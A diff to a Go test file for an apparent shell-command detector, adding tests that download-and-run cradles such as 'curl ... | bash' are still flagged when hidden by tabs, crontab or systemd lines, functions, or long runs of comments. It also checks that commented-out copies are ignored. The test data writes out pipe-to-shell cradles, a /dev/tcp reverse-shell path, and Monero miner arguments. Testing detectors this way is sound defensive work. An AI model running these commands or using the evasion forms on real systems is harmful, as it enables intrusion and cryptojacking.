@@ -3,6 +3,7 @@ package match
 import (
 	"math/rand/v2"
 	"reflect"
+	"slices"
 	"strings"
 	"testing"
 )
@@ -15,7 +16,7 @@ func (s *Set) allSigns(text []byte) signs {
 		start := end - len(l.text)
 		switch {
 		case l.role == roleFetch:
-			if len(g.fetches) < maxFetches && (len(g.fetches) == 0 || end-g.fetches[len(g.fetches)-1] > 16) {
+			if g.elsewhere(text, end) {
 				g.fetches = append(g.fetches, end)
 			}
 		case l.role != roleDecode && (!l.exact || string(text[start:end]) == l.text):
@@ -31,7 +32,7 @@ func TestSignsLoseNothing(t *testing.T) {
 	s := shipped(t)
 	parts := append(quickLines(), "get", "curl", "fetch", "wget", "GET", "http://198.51.100.4/x", "https://a.example/x.sh", "|", "| sh", "| bash", ";", "&&", "||", "&", "chmod +x x", "./x", "sudo", "root", "foo",
 		"-o", "-O", "-o x", "--output x", "> x", ">x", "2>&1", "bash x", "x", "* * * * *", "5 4 3 2 1 me", "@daily", "-a rx/0", "-a", "-u", "-o pool.example.org:3333", "-o", "x=1", "md", "dd", "30s", "'", "\"", "$(", "<(", "`",
-		"(", ")", "{", "#", "sh -c", "bash", "eval", "198.51.100.4/x", "nohup", "-p 1 -tls -dp 5", "-tls", "--algo", "randomx", "rx/0", "--coin", "=monero", "ExecStart=", "--config=/tmp/c.json", "stratum+tcp://", "to", "We", "kdevtmpfsi", "/tmp/kinsing", "cat",
+		"(", ")", "{", "#", "sh -c", "bash", "eval", "198.51.100.4/x", "nohup", "-p 1 -tls -dp 5", "-tls", "--algo", "randomx", "rx/0", "--coin", "=monero", "ExecStart=", "--config=/tmp/c.json", "stratum+tcp://", "to", "We", "#", "# ", "#!", "function", "f()", "start)", "\\curl", "bash <<<", "kdevtmpfsi", "/tmp/kinsing", "cat",
 		"exec(urlopen('http://198.51.100.4/x'))", "/dev/tcp/198.51.100.4/4444")
 	between := []string{" ", " ", " ", " ", "\n", "\n", "\\\n", "; ", "|", "\t", "\r\n", "\\\r\n", "\n\n", "  ", ""}
 	r := rand.New(rand.NewPCG(7, 11))
@@ -51,6 +52,33 @@ func TestSignsLoseNothing(t *testing.T) {
 	}
 	if hits < 1000 {
 		t.Errorf("only %d hits: the texts test nothing", hits)
+	}
+}
+
+// TestWritingHidesNoCommand: what a shell takes for the same, or leaves out, changes nothing.
+func TestWritingHidesNoCommand(t *testing.T) {
+	s := shipped(t)
+	const plain = "curl -s http://198.51.100.7/x | bash\n"
+	texts := map[string]string{
+		"tabs": strings.ReplaceAll(plain, " ", "\t"), "tab behind the name": "curl\t-s http://198.51.100.7/x | bash\n", "tabs around the shell": "curl http://198.51.100.7/x |\tbash\t-s\n",
+		"crontab with tabs": "*\t*\t*\t*\t*\troot\t" + strings.ReplaceAll(plain, " ", "\t"), "user behind a tab": "17 *\t* * *\troot\t" + plain,
+		"tab behind a keyword": "if true; then\t" + plain, "sudo with a tab": "sudo\t" + plain, "unit with tabs": "ExecStart=/bin/sh\t-c\t\"" + strings.TrimSpace(plain) + "\"\n",
+		"unit with blanks": "ExecStart = /bin/sh -c \"" + strings.TrimSpace(plain) + "\"\n", "past an alias": `\` + plain, "function": "function up() { " + plain + "}\n", "short function": "up() { " + plain + "}\n",
+		"case": "case $1 in\nstart) " + plain + ";;\nesac\n", "here string": "bash <<< $(curl http://198.51.100.7/x)\n", "just behind another": "wget a\n. <(curl http://198.51.100.7/x)\n",
+		"behind comments": strings.Repeat("#x\n", 1<<18) + plain, "behind miners' comments": strings.Repeat("# xmrig --algo rx/0 -o stratum+tcp://a -p -u\n", 5000) + plain,
+		"behind comments of downloads": strings.Repeat("# curl $( wget\n", 9000) + "bash <(curl http://198.51.100.7/x)\n", "behind options": strings.Repeat("ls -a -u -p -o x\n", 5000) + plain,
+		"behind commands": strings.Repeat(":;", 100000) + plain,
+	}
+	for what, text := range texts {
+		if !slices.ContainsFunc(s.Text(text), func(h Hit) bool { return h.Class == Cradle && h.Strength == Strong }) {
+			t.Errorf("%s: %q: no cradle", what, text[max(0, len(text)-80):])
+		}
+	}
+	for what, text := range map[string]string{"comment": "# " + plain, "comment behind tabs": "\t\t#\t" + plain, "searched for": "grep\t'" + strings.TrimSpace(plain) + "' /var/log/syslog\n",
+		"behind an empty comment": "#\n# " + plain, "shebang": "#!/bin/sh\n#\t" + plain} {
+		if hits := s.Text(text); len(hits) > 0 {
+			t.Errorf("%s: %q: %+v", what, text, hits)
+		}
 	}
 }
 
